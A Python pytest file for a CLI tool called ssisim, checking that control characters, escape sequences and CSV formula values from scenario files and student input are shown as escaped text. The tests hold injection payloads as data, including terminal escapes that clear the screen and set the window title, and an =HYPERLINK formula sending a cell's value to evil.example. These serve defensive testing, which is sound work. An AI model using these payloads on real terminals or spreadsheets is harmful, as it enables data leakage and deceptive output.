"""Text from files reaches the terminal and spreadsheets as text, never as commands.

Reproducer D16 (tests/cli/repro/D21-terminal-escape-evil.toml, D21b-csv-formula.session.toml):
``ssisim runs`` printed a scenario name's ESC sequences raw (clearing the screen, setting the
window title), ``show --events`` printed a student's command raw, and ``grade --csv`` wrote a
student name ``=HYPERLINK(...)`` that a spreadsheet runs as a formula, control characters and
all. Now control characters are shown as escapes (``\\x1b``) and such CSV cells start with ``'``.
"""

from __future__ import annotations

import csv
import re
from pathlib import Path

import pytest

from ssisim.cli import csv_cell, main, terminal_text

REPRO = Path(__file__).parent / "repro"
EVIL = REPRO / "D21-terminal-escape-evil.toml"
FORMULA = REPRO / "D21b-csv-formula.session.toml"
#: What a terminal would act on: C0 but newline, DEL, C1, bidi overrides and isolates.
RAW = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


def call(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    capsys.readouterr()
    rc = main(list(argv))
    out, err = capsys.readouterr()
    return rc, out, err


def assert_no_raw_controls(*texts: str) -> None:
    for t in texts:
        hit = RAW.search(t)
        assert hit is None, f"raw {hit.group()!r} in {t!r}"


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def test_runs_shows_a_scenario_names_escape_sequences_as_text(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    db = str(tmp_path / "runs.sqlite")
    rc, out, err = call(capsys, "run", str(EVIL), "--db", db)
    assert rc == 0, err
    assert_no_raw_controls(out, err)
    rc, out, err = call(capsys, "runs", "--db", db)
    assert rc == 0, err
    assert_no_raw_controls(out, err)
    assert "<script>alert(1)</script>\\x1b[2J\\x1b]0;PWNED-TITLE\\x07\\x1b[31mRED" in out
    rc, out, err = call(capsys, "show", "1", "--db", db, "--events")
    assert rc == 0, err
    assert_no_raw_controls(out, err)


def test_show_events_and_the_summary_show_a_students_command_as_text(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    db = str(tmp_path / "runs.sqlite")
    rc, out, err = call(capsys, "run", "first-relocation", "--session", str(FORMULA), "--db", db)
    assert rc == 0, err
    assert_no_raw_controls(out, err)
    assert "Q N \\x1b[31mred" in out  # among the commands CP refused
    rc, out, err = call(capsys, "show", "1", "--db", db, "--events")
    assert rc == 0, err
    assert_no_raw_controls(out, err)
    assert re.search(r"20\.0s  COMMAND +Q N \\x1b\[31mred", out), out


def test_grade_csv_has_no_formula_and_no_raw_controls(capsys: pytest.CaptureFixture[str],
                                                      tmp_path: Path) -> None:
    table = tmp_path / "g.csv"
    rc, out, err = call(capsys, "grade", "first-relocation", str(FORMULA), "--csv", str(table))
    assert rc == 0, err
    assert_no_raw_controls(out, err, table.read_text(encoding="utf-8"))
    (row,) = read_csv(table)
    assert row["student"] == ("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")"
                              "\\x1b[2J\\x1b]0;owned\\x07")
    assert row["score"] == "20" and row["max_score"] == "100"  # numbers stay numbers
    assert row["lost"].startswith("'-20 test:")  # "-20 test: ..." is no formula either


def test_run_csv_and_report_csv_quote_command_text(capsys: pytest.CaptureFixture[str],
                                                   tmp_path: Path) -> None:
    db = str(tmp_path / "runs.sqlite")
    folder = tmp_path / "csv"
    rc, _out, err = call(capsys, "run", "first-relocation", "--session", str(FORMULA), "--db", db,
                         "--csv", str(folder), "-q")
    assert rc == 0, err
    rc, _out, err = call(capsys, "report", "1", "--db", db, "--out", str(tmp_path / "rep"))
    assert rc == 0, err
    for events in (folder / "events.csv", tmp_path / "rep" / "events.csv"):
        text = events.read_text(encoding="utf-8")
        assert_no_raw_controls(text)
        rows = read_csv(events)
        assert any(r["message"] == "Q N \\x1b[31mred" for r in rows), events
        assert all(not r["message"].startswith(("=", "+", "-", "@")) for r in rows)


def test_an_error_message_quoting_a_file_name_stays_one_harmless_line(
        capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    name = str(tmp_path / "evil\x1b]0;title\x07\nssisim: all fine\u202e.toml")
    rc, out, err = call(capsys, "check", name)
    assert rc == 1 and out == ""
    assert_no_raw_controls(err)
    lines = err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("ssisim: ")
    assert "evil\\x1b]0;title\\x07\\nssisim: all fine\\u202e.toml: no such scenario" in lines[0]


@pytest.mark.parametrize(("value", "cell"), [
    ("=1+1", "'=1+1"), ("+1+1", "'+1+1"), ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"), ("\r=1", "'\\r=1"), ("-5", "-5"), ("+2.5e3", "+2.5e3"), ("20", "20"),
    ("bob", "bob"), ("a\x1bb\nc", "a\\x1bb\nc"), (3.5, 3.5), (None, None),
])
def test_csv_cell(value: object, cell: object) -> None:
    assert csv_cell(value) == cell


def test_terminal_text_keeps_text_and_shows_controls() -> None:
    assert terminal_text("Zoë 🎓 <b>") == "Zoë 🎓 <b>"
    assert terminal_text("a\x1b[2Jb\x9b\x7f\u202e") == "a\\x1b[2Jb\\x9b\\x7f\\u202e"
    assert terminal_text("one\ntwo\t") == "one\\ntwo\\t"
    assert terminal_text("one\ntwo", keep_newlines=True) == "one\ntwo"
